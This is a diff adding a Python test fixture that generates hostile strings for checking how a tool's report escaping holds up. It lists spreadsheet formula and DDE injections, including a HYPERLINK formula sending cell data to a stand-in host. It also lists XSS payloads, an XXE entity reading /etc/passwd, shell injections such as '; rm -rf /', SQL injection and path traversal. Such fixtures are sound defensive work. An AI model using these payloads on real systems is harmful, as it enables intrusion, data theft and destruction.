@@ -1,0 +1,72 @@
+"""Hostile text by rule, and what keur's reports are to make of it, said a second time and independently of keur's own escapers."""
+import itertools
+
+PIECES = [
+    # what spreadsheets run
+    "=1+1", "=HYPERLINK(\"http://e.example/?\"&A1,\"see\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "'=1+1", "''=1+1", "\"=1+1\"", ";=1+1", "a;=1+1;+2", "a;'=1", "\uff1d1+1", "\uff0b1",
+    "\uff0d1", "\uff20SUM(1)", "=", "+", "-", "@", "-1", "1-1", "a=b", "DDE(\"cmd\";\"/C calc\")",
+    # what browsers and XML readers run or end at
+    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
+    "javascript:alert(1)", "<!--", "-->", "<![CDATA[x", "]]>", "]]&gt;", "&lt;", "&amp;amp;", "&#0;", "&#x1b;", "<?xml version=\"1.0\"?>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;", "</t></is></c><c><f>1</f></c>", "<f>1+1</f>", "\" onclick=\"x", "' onclick='x",
+    # what terminals obey
+    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://e.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\x07", "\x08\x08\x08", "\x0c", "\x0b",
+    "\x7f", "\x01\x02\x03", "\x85", "a\rb", "a\nb", "a\r\nb", "a\n\nb", "a\tb",
+    # what turns or hides text
+    "\u202egnp.exe", "a\u202db\u202c", "\u2066\u2067\u2069", "\u200b", "a\u200bb", "\u200d", "\ufeffa", "\u2028", "\u2029", "\u00ad", "\u061c", "\u180e",
+    "\U000e0041\U000e007f", "\ufff9a\ufffab\ufffb", "\ufffe", "\uffff", "\ufffd", "\U0010ffff", "\ud7ff", "\ue000", "e\u0301", "\u0430mf-1",
+    "\U0001f4e1", "\u4e2d\u6587", "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627",
+    # Markdown
+    "[a](http://e.example)", "![a](http://e.example/i.png)", "<http://e.example>", "http://e.example", "www.e.example", "a@e.example",
+    "*a*", "**a**", "_a_", "~~a~~", "`a`", "``a``", "```\na\n```", "# a", "- a", "1. a", "> a", "a | b | c", "|", "\\|", "\\", "\\\\", "a\\", "[x]: http://e.example",
+    "[^1]", "$a$", "{{ insert: param, x }}", "{0}", "{{0}}", "{", "}", "[x](1)", "](", "[a]", "](http://e.example)", "---", "===", "***", "&copy;", ":smile:", "@team", "#12", "!", "^a^",
+    # DOT
+    "\" URL=\"http://e.example\"", "\"]; x [label=\"", "a\\nb", "a\\lb", "\\N", "\\G", "\\\"", "a\\\\\"b", "<b>a</b>", "<<b>a</b>>", "a -> b", "digraph {}", "}", "//", "/* */", "# x",
+    # JSON, CSV and the rest
+    "\"", "'", "\"\"", "a\"b", "a,b", "a;b", ",", ";", "a|b", "\\u0041", "\\x41", "\\u{41}", "\\u{202E}", "\\n", "\\\"", "_x0041_", "_x000D_", "_x005F_", "_x0041_x0042_", "_xzzzz_", "__x0041_",
+    "null", "true", "NaN", "1e309", "0x10", "1,000", "2026-11-01", "yes", "~", "%s%s%n", "%00", "%2e%2e%2f", "../../etc/passwd", "C:\\x", "//e.example/x", "file:///etc/passwd",
+    "$(id)", "`id`", "; rm -rf /", "' OR 1=1 --", "{\"a\": 1}", "[1]", "a b", " a", "a ", "  ", "a  b", ".", "..", "-", "--", "/", "a/b", "a:b", "a[b]", "a[b].c", "#", "?x=1&y=2",
+    "x" * 300, "\u00e9" * 200, "<" * 100, "=" * 50, "\"" * 33, "\\" * 33,
+]
+FRAMES = ["%s", "a%s", "%sz", "x %s y", "(%s)", "\"%s\"", "%s|%s", "a/%s"]
+
+
+def naughty(count=None):
+    """Different strings: every piece as it is, then in frames. None: all of them; else so many, from everywhere."""
+    seen = dict.fromkeys(PIECES)
+    for frame, piece in itertools.product(FRAMES[1:], PIECES):
+        seen.setdefault(frame.replace("%s", piece))
+    texts = list(seen)
+    return texts[::max(1, len(texts) // count)][:count] if count else texts
+
+
+HIDDEN = [(0x00, 0x1F), (0x7F, 0x9F), (0xAD, 0xAD), (0x61C, 0x61C), (0x180E, 0x180E), (0x200B, 0x200F), (0x2028, 0x202E), (0x2060, 0x206F),
+          (0xFEFF, 0xFEFF), (0xFFF9, 0xFFFB), (0xFFFE, 0xFFFF), (0xE0000, 0xE007F)]
+
+
+def hidden(character):
+    return any(first <= ord(character) <= last for first, last in HIDDEN)
+
+
+def visible(text):
+    return "".join("\\u{%X}" % ord(c) if hidden(c) else c for c in text)
+
+
+def runs(text):
+    """Whether a spreadsheet that gets this as a cell would take it for a formula."""
+    return text.lstrip(" '\"\u00a0\u3000")[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")
+
+
+def active(cell):
+    """Whether one does so with what stands in a file."""
+    return not cell.startswith("'") and runs(cell)
+
+
+def unguarded(cell):
+    """A cell without the apostrophes that keep it from being run."""
+    parts, out = cell.split(";"), []
+    for i, part in enumerate(parts):
+        rest = ";".join(parts[i:])
+        out.append(part[1:] if rest.startswith("'") and runs(rest[1:]) else part)
+    return ";".join(out)
